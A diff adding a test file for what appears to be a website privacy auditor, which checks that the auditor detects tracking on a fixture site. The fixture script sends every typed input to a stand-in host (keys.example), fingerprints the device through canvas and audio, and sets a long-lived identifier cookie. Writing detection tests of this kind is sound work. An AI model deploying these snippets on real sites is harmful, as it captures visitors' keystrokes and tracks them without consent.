@@ -1,0 +1,174 @@
+import assert from 'node:assert/strict'
+import { randomBytes } from 'node:crypto'
+import { after, before, test } from 'node:test'
+import { findProgram } from '../../server/test/programs.ts'
+import type { PassEvidence } from '../src/evidence.ts'
+import { type Lanes, type Looked, openLanes } from './town/looking.ts'
+import type { TownPlan } from './town/plan.ts'
+import { type Answer, siteIdOf, type TownSite } from './town/site.ts'
+
+// One website that does everything at once that is seen by what happens, not by what stands there.
+
+const NODE = `{ type: 2, tagName: 'div', attributes: {}, childNodes: [{ type: 3, childNodes: [] }] }`
+const HOME = `<!doctype html>
+<html lang="de" class="has-footer"><head><title>Everything</title>
+<script>
+  const script = document.createElement('script')
+  script.src = 'https://manager.example/manager.js'
+  document.head.append(script)
+</script>
+<script>localStorage.setItem('theme', 'dark'); caches.open('offline'); indexedDB.open('drafts')</script>
+</head><body><nav><a href="/shop">Shop</a></nav><h1>Everything</h1>
+<form action="http://www.senses.example/login"><input type="email" name="mail"><input type="password" name="word"></form>
+<p>${'Bread and rolls, every day. '.repeat(20)}</p><div style="height: 2000px"></div>
+<img loading="lazy" width="1" height="1" src="https://below.example/pixel.gif">
+<script>addEventListener('scroll', () => void fetch('https://scrolled.example/', { mode: 'no-cors' }), { once: true })</script>
+<div>Bakery, Mill Road 1 <a href="/daten">Daten</a></div>
+<div style="position: fixed; top: 0">Only today! <a href="/offer">Offer</a></div>
+</body></html>`
+
+const MANAGER = `
+  const id = 1e9 + crypto.getRandomValues(new Uint32Array(1))[0] % 1e9 + '.' + Math.floor(Date.now() / 1000)
+  document.cookie = '_who=W1.' + id + '; max-age=63072000; secure'
+  fetch('https://collect.example/hit?cid=' + id, { mode: 'no-cors' })
+  navigator.sendBeacon('https://recorder.example/events', new Blob([JSON.stringify([${NODE}, ${NODE}])]))
+  navigator.sendBeacon('/metrics/collect', 'v=2')
+  new WebSocket('wss://chat.example/live')
+  addEventListener('input', ({ target }) => navigator.sendBeacon('https://keys.example/typed', target.value))
+  const canvas = document.createElement('canvas')
+  const context = canvas.getContext('2d')
+  context.fillText('Cwm fjordbank gly', 2, 15)
+  canvas.toDataURL()
+  const audio = new OfflineAudioContext(1, 500, 44100)
+  const tone = audio.createOscillator()
+  tone.connect(audio.destination)
+  tone.start()
+  audio.startRendering().then((heard) => heard.getChannelData(0))`
+
+/** What WordPress does on every page. */
+const EMOJI = `
+  const small = document.createElement('canvas').getContext('2d')
+  for (const emoji of ['\\u{1f3f3}\\ufe0f\\u200d\\u26a7\\ufe0f', '\\u{1f3f4}\\u{e0067}\\u{e0062}\\u{e0065}\\u{e006e}\\u{e0067}\\u{e007f}']) {
+    small.fillText(emoji, 0, 0)
+    small.getImageData(0, 0, 300, 150)
+  }`
+
+const text = (type: string, body: string): Answer => ({ type, body, headers: { 'access-control-allow-origin': '*' } })
+
+const SITE: TownSite = {
+  name: 'senses',
+  url: 'https://www.senses.example/',
+  hosts: ['www.senses.example'],
+  site: siteIdOf('senses'),
+  published: null,
+  truths: [],
+  answer(path) {
+    const session = `session=${randomBytes(16).toString('hex')}; Path=/; HttpOnly; Secure`
+    if (path === '/')
+      return {
+        headers: { 'set-cookie': [session, 'language=de; Path=/'] },
+        body: HOME.replace('</head>', '<script src="/emoji.js"></script></head>'),
+      }
+    return path === '/emoji.js' ? text('text/javascript', EMOJI) : null
+  },
+}
+const PLAN: TownPlan = {
+  title: 'Senses',
+  sites: [SITE],
+  reported: [SITE],
+  installed: [],
+  party: (host) => {
+    if (host === 'manager.example') return text('text/javascript', MANAGER)
+    return host.endsWith('.example') ? text('text/plain', '') : null
+  },
+  evidence: new URL('./', import.meta.url),
+}
+
+const executablePath = await findProgram('chromium')
+const skip = executablePath === null ? 'There is no Chromium: set CHROMIUM_PATH.' : false
+let lanes: Lanes
+let looked: Looked
+let silent: PassEvidence['visits'][number]
+
+before(async () => {
+  if (executablePath === null) return
+  lanes = await openLanes([PLAN], executablePath, 1)
+  looked = await lanes.look(SITE)
+  const visit = looked.evidence.passes.find(({ pass }) => pass === 'silent')?.visits[0]
+  assert.ok(visit)
+  silent = visit
+})
+after(() => lanes?.close())
+
+test('a request has the line and the script that asked for it, and what had happened before', { skip }, () => {
+  const of = (host: string) => silent.requests.find((request) => request.host === host)
+  const manager = 'https://manager.example/manager.js'
+  assert.deepEqual([of('manager.example')?.line, of('manager.example')?.initiator], [6, null])
+  assert.deepEqual([of('collect.example')?.line, of('collect.example')?.initiator], [null, manager])
+  assert.deepEqual([of('below.example')?.line, of('below.example')?.initiator], [12, null])
+  assert.deepEqual(
+    ['manager.example', 'scrolled.example'].map((host) => of(host)?.after),
+    ['load', 'scroll'],
+  )
+  assert.deepEqual([of('chat.example')?.url, of('chat.example')?.kind], ['wss://chat.example/live', 'socket'])
+  const recording = silent.requests.filter((request) => request.recording).map(({ host }) => host)
+  assert.deepEqual(recording, ['recorder.example'])
+  assert.deepEqual(
+    silent.ownRequests.map(({ url, kind, initiator }) => [url, kind, initiator]),
+    [
+      ['https://www.senses.example/emoji.js', 'script', null],
+      ['https://www.senses.example/metrics/collect', 'beacon', manager],
+    ],
+  )
+  const [page] = looked.evidence.pages
+  assert.deepEqual(
+    page?.inline.map(({ line, lastLine, names }) => [line, lastLine, names]),
+    [
+      [3, 7, [manager]],
+      [13, 13, ['https://scrolled.example/']],
+    ],
+  )
+})
+
+test('what is stored has who did it and how, whether it tells visitors apart, and who was sent it', { skip }, () => {
+  const by = (name: string) => {
+    const one = silent.kept.find((item) => item.name === name)
+    return [one?.kind, one?.how, one?.by, one?.identifier, one?.sentTo]
+  }
+  const own = 'www.senses.example'
+  assert.deepEqual(by('session'), ['cookie', 'answer', own, true, []])
+  assert.deepEqual(by('language'), ['cookie', 'answer', own, false, []])
+  assert.deepEqual(by('_who'), ['cookie', 'script', 'manager.example', true, ['collect.example']])
+  assert.deepEqual(by('theme'), ['local', 'script', own, false, []])
+  assert.deepEqual(by('offline'), ['cache', 'script', own, false, []])
+  assert.deepEqual(by('drafts'), ['indexed_db', 'script', own, false, []])
+})
+
+test('who recognises the device and who is sent what is typed is told, and a test for emoji is neither', {
+  skip,
+}, () => {
+  const by = 'https://manager.example/manager.js'
+  assert.deepEqual(silent.fingerprints, [
+    { way: 'audio', by },
+    { way: 'canvas', by },
+  ])
+  assert.deepEqual(silent.typedSentTo, [{ host: 'keys.example', url: 'https://keys.example/typed' }])
+  const asked = looked.asked.filter(({ path }) => path === '/login')
+  assert.deepEqual([silent.requests.some(({ host }) => host === 'keys.example'), asked], [false, []])
+})
+
+test('forms have where they send to, and links at the end of a page are its footer', { skip }, () => {
+  const [page] = looked.evidence.pages
+  assert.deepEqual(
+    page?.forms.map(({ action, personal }) => [action, personal]),
+    [['http://www.senses.example/login', true]],
+  )
+  assert.deepEqual(
+    page?.links.map(({ text, footer }) => [text, footer]),
+    [
+      ['Shop', false],
+      ['Daten', true],
+      ['Offer', false],
+    ],
+  )
+})
